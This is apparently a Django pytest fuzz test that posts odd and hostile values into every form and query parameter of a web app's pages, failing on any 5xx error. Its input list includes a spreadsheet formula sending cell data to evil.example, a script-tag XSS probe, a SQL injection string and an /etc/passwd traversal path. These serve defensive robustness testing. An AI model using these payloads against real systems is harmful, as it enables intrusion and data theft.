"""No user input reaches a 500: every HTML page of the permission matrix, fed odd input.

For each page (and each persona allowed to use it) the fuzzer reads the page's own forms — every
``input``, ``select`` and ``textarea`` name, file fields included — and posts them back filled with
values real people and attackers send: Vietnamese number and date habits, digits that are not ASCII,
NUL, formulas, markup, huge text, JSON. GET pages get the same values in their query parameters.
Each request runs in a savepoint that is rolled back, with DEBUG off; any 5xx is a failure. The
values are a fixed list combined with a seeded random choice, so a run is repeatable.
"""

from __future__ import annotations

import random
from html.parser import HTMLParser
from typing import Any

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse

from tests.test_permission_matrix import MATRIX, World, world  # noqa: F401 - the fixture

NASTY = [
    "",
    " ",
    "\x00",
    "²",
    "١٢",
    "9" * 40,
    "-1",
    "0",
    "24.000",
    "1.200.000 đ",
    "24,5",
    "03/12/2026",
    "2026-13-45",
    "31/02/2026 25:61",
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "Đoàn Thanh niên Cộng sản Hồ Chí Minh " * 300,
    '{"a": [[[[1]]]]}',
    "[" * 3000,
    "true",
    "null",
    "../../etc/passwd",
    "HCM-PSG-01-1",
]
FILES = [b"", b"PK\x03\x04" + b"\x00" * 64, b"\xd0\xcf\x11\xe0" + b"\x00" * 64, b"code,name\n=1+1,x\n", b"\xff\xfe\x00"]
VARIANTS = 6  # per page and persona: one fixed value everywhere for the first NASTY values, then mixes


class _Forms(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.fields: dict[str, str] = {}  # name → "file" | "field"
        self.post_forms = 0
        self._in_post = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        if tag == "form":
            self._in_post = (a.get("method") or "get").lower() == "post"
            self.post_forms += self._in_post
        elif tag in ("input", "select", "textarea") and a.get("name") and a.get("name") != "csrfmiddlewaretoken":
            self.fields[str(a["name"])] = "file" if a.get("type") == "file" else "field"

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._in_post = False


def _in_savepoint(call: Any) -> int | str:
    """The status of one request made in a rolled-back savepoint, or the exception a view raised."""

    class Rollback(Exception):
        pass

    status: int | str = 0
    try:
        with transaction.atomic():
            status = call().status_code
            raise Rollback
    except Rollback:
        pass
    except Exception as exc:  # the view raised: what would have been a 500
        status = f"500 {type(exc).__name__}: {str(exc)[:160]}"
    return status


def _is_error(status: int | str) -> bool:
    return isinstance(status, str) or status >= 500


def _payload(fields: dict[str, str], rng: random.Random, variant: int) -> dict[str, Any]:
    data: dict[str, Any] = {}
    for name, kind in fields.items():
        if kind == "file":
            data[name] = SimpleUploadedFile("tệp =1+1.xlsx", rng.choice(FILES))
        else:
            data[name] = NASTY[variant] if variant < 3 else rng.choice(NASTY)
    return data


def test_no_odd_input_on_any_page_is_answered_with_a_5xx(world: World, settings) -> None:
    settings.DEBUG = False
    rng = random.Random(2026)
    failures: list[str] = []
    pages = forms_seen = 0
    for name, entry in sorted(MATRIX.items()):
        if entry.api or name.startswith("admin") or name in ("accounts:logout",):
            continue
        url = reverse(name, kwargs=entry.kwargs(world))
        for persona in ("editor", "city_staff", "admin", "anonymous"):
            client = Client()
            if persona != "anonymous":
                client.force_login(getattr(world.personas, persona))
            page = client.get(url)
            if page.status_code != 200 or page.streaming or "text/html" not in page.get("Content-Type", ""):
                continue
            pages += 1
            parser = _Forms()
            parser.feed(page.content.decode("utf-8", "replace"))
            for variant in range(VARIANTS):
                query = {key: rng.choice(NASTY) for key in ("campaign", "unit", "sector", "page", "q", "start", "end")}
                status = _in_savepoint(lambda c=client, u=url, q=query: c.get(u, q))
                if _is_error(status):
                    failures.append(f"GET {url}?{query} as {persona}: {status}")
                if not parser.post_forms:
                    continue
                forms_seen += variant == 0
                data = _payload(parser.fields, rng, variant)
                status = _in_savepoint(lambda c=client, u=url, d=data: c.post(u, d))
                if _is_error(status):
                    shown = {k: (v if isinstance(v, str) else "<file>")[:40] for k, v in data.items()}
                    failures.append(f"POST {url} as {persona}: {status} with {shown}")
    assert pages > 40 and forms_seen > 15, (pages, forms_seen)  # the fuzzer really reached the pages and forms
    assert not failures, "\n".join(failures)
